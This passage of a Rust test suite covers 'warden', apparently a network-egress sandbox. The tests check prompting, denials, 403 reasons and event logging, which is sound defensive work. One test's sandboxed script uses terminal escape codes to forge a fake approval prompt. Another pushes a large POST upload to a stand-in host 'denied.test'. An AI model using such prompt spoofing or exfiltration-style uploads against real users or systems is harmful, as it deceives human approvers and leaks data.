        r#"import socket, sys, threading, time
def go():
    try:
        s = socket.create_connection(('sneaky.test', {port}), timeout=25); s.sendall(b'x'); print('got', s.recv(100))
    except OSError as e:
        print('error', e.errno)
t = threading.Thread(target=go); t.start()
time.sleep(1)
sys.stdout.write('\x1b[6n\r\x1b[2KFAKE-LINE allow pypi.org? type run\n'); sys.stdout.flush()
t.join()
"#
    );
    let out = Command::new("python3")
        .env("WARDEN_TEST_ASK_LOOPBACK", "1")
        .args(["-c", PTY_DRIVER, "@reply,deny"])
        .arg(warden_bin())
        .args([
            "run",
            "--ask",
            "--add-host",
            "sneaky.test=127.0.0.1",
            "--",
            "python3",
            "-c",
            &body,
        ])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let s = stdout(&out);
    assert!(
        up.connections().is_empty(),
        "the sandbox answered for itself: {s}"
    );
    let question = s
        .find("sneaky.test")
        .unwrap_or_else(|| panic!("no question: {s}"));
    let denied = s
        .find("warden: denied")
        .unwrap_or_else(|| panic!("not denied: {s}"));
    // The fake line was held until the question was answered.
    let fake = s
        .find("FAKE-LINE")
        .unwrap_or_else(|| panic!("no output at all: {s}"));
    assert!(question < denied && denied < fake, "{s}");
}

#[test]
fn a_name_pinned_to_the_hosts_loopback_is_never_asked_about() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"must not be reached");
    let out = Command::new("python3")
        .args(["-c", PTY_DRIVER, ""])
        .arg(warden_bin())
        .args([
            "run",
            "--ask",
            "--net-log",
            "--add-host",
            "pinned.test=127.0.0.1",
            "--",
            "python3",
            "-c",
            &format!(
                "import socket\ntry:\n    s = socket.create_connection(('pinned.test', {}), timeout=10); s.sendall(b'x'); print('got', s.recv(100))\nexcept OSError as e:\n    print('error', e)\n",
                up.port
            ),
        ])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let s = stdout(&out);
    assert!(!s.contains("then Enter"), "it was asked: {s}");
    assert!(s.contains("pinned to the host itself"), "{s}");
    assert!(up.connections().is_empty());
}

#[test]
fn ask_mode_without_a_terminal_denies() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"must not be reached");
    let out = sandbox_python(
        &["--ask", "--net-log", "--add-host", "asked.test=127.0.0.1"],
        &format!(
            "ip = socket.gethostbyname('asked.test')\nprint('asked', send((ip, {}), b'hello'))\n",
            up.port
        ),
    );
    let s = stdout(&out);
    assert!(s.contains("asked b''"), "{s} {}", stderr(&out));
    assert!(
        stderr(&out).contains("ask mode has no terminal to ask on"),
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains(&format!(
            "(`--allow-domain asked.test:{}` would allow it)",
            up.port
        )),
        "{}",
        stderr(&out)
    );
    assert!(up.connections().is_empty());
}

#[test]
fn a_denied_connect_is_a_403_that_says_why_in_a_header_and_the_body() {
    if !egress_available() {
        return;
    }
    // What pip and curl see of a refused CONNECT through HTTPS_PROXY.
    let out = sandbox_python(
        &["--allow-domain", "allowed.test"],
        "import os\n\
p = os.environ['HTTPS_PROXY'].split('//')[1].split(':')\n\
s = socket.create_connection((p[0], int(p[1])), timeout=5)\n\
s.sendall(b'CONNECT denied.test:443 HTTP/1.1\\r\\nHost: denied.test:443\\r\\n\\r\\n')\n\
data = b''\n\
while True:\n    c = s.recv(4096)\n    if not c: break\n    data += c\n\
print(data.decode())\n",
    );
    let s = stdout(&out);
    assert!(s.starts_with("HTTP/1.1 403"), "{s} {}", stderr(&out));
    assert!(
        s.contains("X-Warden-Denied: denied: no allowlist entry for this name on port 443"),
        "{s}"
    );
    // The code the event carries, the same for every refusal.
    assert!(s.contains("X-Warden-Reason: not_allowed\r\n"), "{s}");
    // The sandbox cannot pass flags: none is named to it.
    assert!(!s.contains("--allow-domain"), "{s}");
    assert!(s.contains("warden: denied:"), "{s}");
}

#[test]
fn a_denied_request_whose_body_is_still_coming_gets_its_403_not_a_reset() {
    if !egress_available() {
        return;
    }
    // A POST through HTTP_PROXY to a name not allowed: the head is refused
    // at once, and the body goes on arriving after the answer was written.
    let out = sandbox_python(
        &["--allow-domain", "allowed.test"],
        "import os, time\n\
p = os.environ['HTTP_PROXY'].split('//')[1].rstrip('/').split(':')\n\
s = socket.create_connection((p[0], int(p[1])), timeout=10)\n\
s.sendall(b'POST http://denied.test/upload HTTP/1.1\\r\\nHost: denied.test\\r\\nContent-Length: 655360\\r\\n\\r\\n')\n\
for _ in range(10):\n    time.sleep(0.05)\n    s.sendall(b'x' * 65536)\n\
data = b''\n\
while True:\n    c = s.recv(4096)\n    if not c: break\n    data += c\n\
print(data.decode())\n",
    );
    let s = stdout(&out);
    assert!(s.starts_with("HTTP/1.1 403"), "{s} {}", stderr(&out));
    assert!(s.contains("X-Warden-Reason: plain_http\r\n"), "{s}");
}

#[test]
fn ask_mode_whose_terminal_closes_denies_at_once_and_the_run_ends() {
    if !egress_available() {
        return;
    }
    let up = Upstream::start(b"must not be reached");
    let term = TestTerminal::open(24, 80);
    let mut cmd = Command::new(warden_bin());
    cmd.env("WARDEN_TEST_ASK_LOOPBACK", "1").args([
        "run",
        "--ask",
        "--add-host",
        "asked.test=127.0.0.1",
        "--",
        "python3",
        "-c",
        &format!(
            "import socket\ntry:\n    s = socket.create_connection(('asked.test', {}), timeout=100); s.sendall(b'x'); print('got', s.recv(100))\nexcept OSError as e:\n    print('error', e)\n",
            up.port
        ),
    ]);
    let mut child = term.spawn(&mut cmd);
    let TestTerminal { master, slave } = term;
    let seen = TestTerminal {
        master: master.try_clone().unwrap(),
        slave,
    }
    .expect("then Enter", Duration::from_secs(20));
    assert!(seen.contains("asked.test"), "no question: {seen}");
    // The person's terminal goes away with the question on screen.
    drop(master);
    let closed = std::time::Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break Some(s);
        }
        if closed.elapsed() > Duration::from_secs(10) {
            let _ = child.kill();
            let _ = child.wait();
            break None;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let status = status.expect("the question waited for an answer nobody can give");
    // The command ended as it does when refused (not warden failing on
    // the terminal that went away: 101 is a panic).
    assert_eq!(status.code(), Some(0), "{status:?}");
    assert!(
        closed.elapsed() < Duration::from_secs(3),
        "took {:?}",
        closed.elapsed()
    );
    assert!(up.connections().is_empty(), "{:?}", up.connections());
}

#[test]
fn a_client_honouring_https_proxy_shows_why_its_connect_was_denied() {
    if !egress_available() {
        return;
    }
    // Python's urllib (what pip's stack reports the same way) through the
    // HTTPS_PROXY warden sets: its own error must carry the reason, not a
    // TLS "wrong version number" nor a bare "403 Forbidden".
    let out = sandbox_python(
        &["--allow-domain", "allowed.test"],
        "import urllib.request\n\
try:\n    urllib.request.urlopen('https://denied.test/', timeout=10); print('reached')\n\
except Exception as e:\n    print('client error:', e)\n",
    );
    let s = stdout(&out);
    assert!(s.contains("client error:"), "{s} {}", stderr(&out));
    assert!(s.contains("Tunnel connection failed: 403"), "{s}");
    assert!(
        s.contains("no allowlist entry"),
        "the client's error does not say why: {s}"
    );
    // curl says only the status without -v; with it, the header shows.
    let out = run_sh(
        &["--allow-domain", "allowed.test"],
        "curl -sS -v https://denied.test/ 2>&1; true",
    );
    let s = stdout(&out);
    if s.contains("not found") && !s.contains("CONNECT") {
        skip("no curl inside the sandbox");
        return;
    }
    assert!(
        s.contains("X-Warden-Denied: denied: no allowlist entry"),
        "{s}"
    );
    assert!(s.contains("X-Warden-Reason: not_allowed"), "{s}");
}

#[test]
fn raw_tcp_to_a_port_no_rule_allows_is_reset_at_once_and_named_by_the_name_used() {
    if !egress_available() {
        return;
    }
    let dir = TempDir::new("egress-refuse");
    let events = dir.path().join("events.jsonl");
    // An SSH client waits for the server to speak first: before, it was
    // accepted, held 10 s for bytes that could never be allowed, closed,
    // and recorded as `-:22`.
    let out = sandbox_python(
        &[
            "--allow-domain",
            "example.test",
            "--add-host",
            "example.test=192.0.2.1",
            "--json-events",
            events.to_str().unwrap(),
        ],
        "import time\n\
t = time.time()\n\
try:\n    s = socket.create_connection(('example.test', 22), timeout=20); s.settimeout(20); print('got', s.recv(10))\n\
except OSError as e:\n    print('error', e.errno)\n\
print('took', time.time() - t)\n",
    );
    let s = stdout(&out);
    assert!(s.contains("error 104"), "not reset: {s} {}", stderr(&out));
    let took: f64 = s
        .lines()
        .find_map(|l| l.strip_prefix("took "))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(took < 2.0, "took {took} s: {s}");
    let text = std::fs::read_to_string(&events).unwrap();
    let denial = text
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|e| e["event"] == "connection" && e["allowed"] == false && e["port"] == 22)
        .unwrap_or_else(|| panic!("no denial recorded: {text}"));
    assert_eq!(denial["name"], "example.test", "{denial}");
    // Words without a flag, and the reason as data: its code, the option
    // (by profile key) and the entry that would allow it.
    assert_eq!(
        denial["detail"], "no allowlist entry allows port 22 for any name",
        "{denial}"
    );
    assert_eq!(
        denial["reason"],
        serde_json::json!({
            "code": "port_not_allowed",
            "field": "egress.domains",
            "allow": {"field": "egress.domains", "value": "example.test:22"}
        }),
        "{denial}"
    );
    // The hint at exit is that reason, next to the name, and the CLI's
    // flag for it.
    assert!(
        stderr(&out).contains(
            "egress denied: tcp example.test:22: no allowlist entry allows port 22 for any name (`--allow-domain example.test:22` would allow it)"
        ),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_connect_to_a_name_that_leads_to_a_non_public_address_is_refused_before_its_tunnel_opens() {
    if !egress_available() {
        return;
    }
    // Before, the CONNECT was answered 200, then the refusal came as a
    // 502 inside the tunnel: clients read it as TLS and reported "wrong
    // version number", and retried. Now the refusal is the CONNECT's
    // answer: a 403 that names the address and the entry that allows it,
    // before the client sends a byte of TLS.
    let up = Upstream::start(b"reached");
    let port = up.port;
    let dir = TempDir::new("egress-nonpublic");
    let events = dir.path().join("events.jsonl");
    let script = format!(
        "import os, urllib.request\n\
host, pport = os.environ['HTTPS_PROXY'].rsplit('/', 1)[1].split(':')\n\
def connect(name):\n    s = socket.create_connection((host, int(pport)), timeout=20); s.settimeout(20)\n    s.sendall(f'CONNECT {{name}}:{port} HTTP/1.1\\r\\nHost: {{name}}:{port}\\r\\n\\r\\n'.encode())\n    head = b''\n    while b'\\r\\n\\r\\n' not in head:\n        c = s.recv(4096)\n        if not c: break\n        head += c\n    if b' 200 ' not in head.split(b'\\r\\n')[0]:\n        while True:\n            c = s.recv(4096)\n            if not c: break\n            head += c\n        return head.decode()\n    s.sendall(hello(name)); return (head + s.recv(200)).decode()\n\
for name in ['private.test', 'local.test', 'pinned.test']:\n    print('===', name); print(connect(name))\n\
try:\n    urllib.request.urlopen('https://private.test:{port}/', timeout=20); print('urllib reached')\n\
except Exception as e:\n    print('urllib error:', e)\n"
    );
    let out = Command::new(warden_bin())
        .args(["run", "--no-tty", "--json-events", events.to_str().unwrap()])
        .args(["--allow-domain", &format!("private.test:{port}")])
        .args(["--allow-domain", &format!("local.test:{port}")])
        .args(["--allow-domain", &format!("pinned.test:{port}")])
        .args(["--add-host", "pinned.test=127.0.0.1"])
        .args(["--", "python3", "-c", &format!("{PY_HELLO}{script}")])
        // As the host's resolver would answer: a private address in no
        // allowed range, and the host's loopback (where the listener is).
        .env(
            "WARDEN_TEST_RESOLVE",
            "private.test=10.255.0.7,local.test=127.0.0.1",
        )
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let s = stdout(&out);
    let all = format!("{s}\n{}", stderr(&out));
    let answer = |name: &str| {
        s.split(&format!("=== {name}\n"))
            .nth(1)
            .and_then(|r| r.split("===").next())
            .unwrap_or_else(|| panic!("no answer for {name}: {all}"))
            .to_string()
    };
    // A private address: refused with the one-address range that allows it.
    let private = answer("private.test");
    assert!(private.starts_with("HTTP/1.1 403"), "{all}");
    assert!(
        private.contains("X-Warden-Denied: denied: private.test resolves only to non-public addresses (10.255.0.7)"),
        "{all}"
    );
    assert!(private.contains("X-Warden-Reason: not_public"), "{all}");
    // The sandbox is told what happened, not a flag it cannot pass.
    assert!(!private.contains("--allow-cidr"), "{all}");
    // The host's own loopback: no range opens it; --allow-host-port does.
    let local = answer("local.test");
    assert!(local.starts_with("HTTP/1.1 403"), "{all}");
    assert!(
        local.contains(
            "X-Warden-Denied: denied: local.test resolves only to the host's own addresses, which"
        ),
        "{all}"
    );
    // Which addresses are the host's own is not told to the sandbox.
    assert!(!local.contains("127.0.0.1"), "{all}");
    assert!(local.contains("X-Warden-Reason: host_itself"), "{all}");
    assert!(
        local.contains(&format!("host.warden.internal:{port}")),
        "{all}"
    );
    // What pip's stack shows: the reason, not a TLS error.
    assert!(
        s.contains("urllib error: <urlopen error Tunnel connection failed: 403")
            && s.contains("resolves only to non-public addresses"),
        "{all}"
    );
    // The owner, at the end of the run, is told the flags that allow them.
    let err = stderr(&out);
    assert!(
        err.contains("(`--allow-cidr 10.255.0.7/32` would allow it)"),
        "{err}"
    );
    assert!(
        err.contains(&format!("(`--allow-host-port {port}` would allow it)")),
        "{err}"
    );
    assert!(!s.contains("WRONG_VERSION_NUMBER"), "{all}");
    // The control: the owner's pin to the same listener opens a tunnel
    // and reaches it, so an arrival of the refused ones would be seen.
    let pinned = answer("pinned.test");
    assert!(
        pinned.starts_with("HTTP/1.1 200 Connection established\r\n\r\nreached"),
        "{all}"
    );
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(up.connections().len(), 1, "{all}");
    // The event carries the reason as a code and its data, for every door.
    let text = std::fs::read_to_string(&events).unwrap();
    let denial = text
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|e| e["event"] == "connection" && e["name"] == "private.test")
        .unwrap_or_else(|| panic!("no decision recorded: {text}"));
    assert_eq!(denial["allowed"], false, "{denial}");
    assert_eq!(
        denial["reason"],
        serde_json::json!({
            "code": "not_public",
            "field": "egress.allow_cidrs",
            "addresses": ["10.255.0.7"],
            "allow": {"field": "egress.allow_cidrs", "value": "10.255.0.7/32"}
        }),
        "{denial}"
    );
}
